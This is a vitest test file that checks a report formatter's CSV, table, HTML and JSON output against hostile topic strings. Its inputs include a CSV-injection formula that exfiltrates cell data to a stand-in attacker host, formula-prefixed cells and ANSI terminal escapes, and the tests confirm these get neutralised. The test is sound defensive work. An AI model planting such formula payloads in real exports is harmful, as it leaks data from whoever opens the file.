import { describe, expect, it } from 'vitest'
import { buildReport } from '../../src/report/build-report.js'
import { quote } from '../../src/report/format-csv.js'
import { formatReport } from '../../src/report/format-report.js'
import { figuresOf2021Report } from './published-figures.js'

const HOSTILE_TOPICS = [
  '=HYPERLINK("http://attacker.example/?"&A1,"klik")',
  '+62 cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR',
  'Dana\u001b[2J\u0007 Desa',
]

const report = buildReport(
  {
    ...figuresOf2021Report(),
    topics: HOSTILE_TOPICS.map((topic, i) => ({
      channel: 'whatsapp' as const,
      rank: i + 1,
      topic,
      code: `hostile_${i}`,
      consultations: 100 - i,
    })),
  },
  2021,
  '2021-12',
)

/** Report outputs against topics an export could carry (OWASP CSV injection, terminal escapes). */
describe('report outputs with hostile topics', () => {
  it('csv: a text cell a spreadsheet would run as a formula starts with a quote', () => {
    const csv = formatReport(report, 'csv')
    const topicCells = csv
      .split('\n')
      .filter((line) => line.startsWith('top_topics,2021-12,whatsapp,'))
      .map((line) => line.split(',')[5])
    expect(topicCells.slice(1, 4)).toEqual(["'+62 cmd", "'-2+3", "'@SUM(A1:A9)"])
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1`)
    expect(csv).toContain("'\tTAB")
    expect(csv).toContain(`"'\rCR"`)
    // No line has a cell that starts with a formula character unquoted.
    for (const line of csv.split('\n')) expect(line).not.toMatch(/(^|,)"?[=+@\t]/)
  })

  it('csv: numbers stay numbers, negative ones included', () => {
    expect(quote(-12.5)).toBe('-12.5')
    expect(quote('-12.5')).toBe("'-12.5")
    expect(quote(0)).toBe('0')
    expect(quote(null)).toBe('')
    const csv = formatReport(report, 'csv')
    expect(csv).toMatch(/,change_vs_previous_year_pct,-?\d/)
  })

  it('table and html: control characters are shown escaped', () => {
    for (const format of ['table', 'html'] as const) {
      const text = formatReport(report, format)
      // eslint-disable-next-line no-control-regex -- finding control characters is the point
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
      expect(text).toContain('Dana\\x1b[2J\\x07 Desa')
    }
  })

  it('json keeps the exact text', () => {
    const json = JSON.parse(formatReport(report, 'json')) as unknown
    expect(JSON.stringify(json)).toContain(JSON.stringify('Dana\u001b[2J\u0007 Desa'))
  })
})
